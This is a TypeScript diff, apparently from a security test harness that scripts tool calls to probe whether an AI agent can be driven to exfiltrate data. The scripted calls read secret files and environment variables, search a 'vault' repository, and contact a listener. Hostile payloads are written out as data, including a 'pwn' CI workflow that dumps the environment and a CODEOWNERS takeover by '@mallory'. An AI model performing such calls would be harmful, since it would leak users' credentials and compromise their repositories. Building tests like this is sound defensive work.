@@ -29,7 +29,7 @@ export function toTags(text: string): string {
 export const lootMark = '{loot}';
 
 /** Paths that a run must not push by itself, one per order. */
-export const protectedFiles: Readonly<Record<string, string>> = {
+const protectedFiles: Readonly<Record<string, string>> = {
   '.github/workflows/pwn.yml': 'on: push\njobs: {}\n',
   '.gitlab-ci.yml': 'pwn: { script: [env] }\n',
   CODEOWNERS: '* @mallory\n',
@@ -63,7 +63,7 @@ export function listOrders(targets: Targets): readonly ScriptedCall[] {
   return [
     ...['pricing-secret.txt', '/proc/self/environ', '../../../../.env', targets.machineFile].map(read),
     { name: 'read_thread', input: { number: 1, repository: 'acme/vault', include_comments: true } },
-    { name: 'search_threads', input: { query: 'repo:acme/vault VAULT' } },
+    { name: 'search_threads', input: { query: 'repo:acme/vault plans' } },
     { name: 'fetch_page', input: { url: `${targets.listener}/page` } },
     { name: 'run_command', input: { command: 'node', args: ['-e', composeProbe(targets)] } },
     { name: 'run_command', input: { command: 'curl', args: [`${targets.listener}/curl`] } },
